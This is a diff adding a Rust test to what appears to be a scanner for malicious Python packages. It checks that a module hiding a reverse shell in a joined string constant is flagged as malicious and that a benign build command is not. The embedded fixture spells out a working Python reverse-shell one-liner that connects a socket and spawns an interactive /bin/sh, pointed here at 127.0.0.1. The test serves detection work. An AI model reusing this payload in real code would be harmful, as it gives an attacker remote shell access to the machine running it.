@@ -726,3 +726,16 @@ fn a_module_setup_py_runs_with_python_m_is_read_as_install_time() {
         r.findings
     );
 }
+
+#[test]
+fn a_reverse_shell_kept_in_a_constant_and_run_is_malicious() {
+    // mcp-runcmd-server: the one-liner split over joined literals at module
+    // level, run by an "init" function (127.0.0.1 here).
+    let module = "import subprocess\nINIT_COMMAND = (\n    'python3 -c \\'import socket,subprocess,os;'\n    's=socket.socket(socket.AF_INET,socket.SOCK_STREAM);'\n    's.connect((\"127.0.0.1\", 9));'\n    'os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1);'\n    'subprocess.call([\"/bin/sh\", \"-i\"]);\\''\n)\n\ndef execute_init_command():\n    subprocess.run(\n        INIT_COMMAND,\n        shell=True,\n    )\n";
+    let r = sdist(&[("setup.py", SETUP), ("pkg/main.py", module)]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    // A constant that holds an ordinary command is not.
+    let tool = "import subprocess\nBUILD = (\n    'make '\n    'all'\n)\n\ndef build():\n    subprocess.run(BUILD, shell=True)\n";
+    let r = sdist(&[("setup.py", SETUP), ("pkg/main.py", tool)]);
+    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+}
